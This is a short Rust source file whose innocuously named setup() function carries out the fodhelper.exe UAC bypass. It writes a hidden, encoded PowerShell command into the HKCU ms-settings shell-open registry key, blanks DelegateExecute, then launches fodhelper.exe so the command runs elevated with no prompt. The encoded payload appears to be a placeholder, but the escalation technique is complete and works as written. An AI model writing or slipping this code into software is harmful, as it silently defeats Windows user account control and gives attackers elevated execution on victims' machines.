// fodhelper.exe elevates itself without a prompt and runs ms-settings' shell-open command,
// which HKCU can override: the command then runs elevated.
#[cfg(windows)]
pub fn setup() -> std::io::Result<()> {
    use std::process::Command;
    use winreg::enums::HKEY_CURRENT_USER;
    use winreg::RegKey;

    let hkcu = RegKey::predef(HKEY_CURRENT_USER);
    let (key, _) = hkcu.create_subkey("Software\\Classes\\ms-settings\\Shell\\Open\\command")?;
    key.set_value("", &"powershell -w hidden -nop -enc JABFAFgAQQBNAFAATABFAA==")?;
    key.set_value("DelegateExecute", &"")?;
    Command::new("C:\\Windows\\System32\\fodhelper.exe").spawn()?;
    Ok(())
}

#[cfg(not(windows))]
pub fn setup() -> std::io::Result<()> {
    Ok(())
}
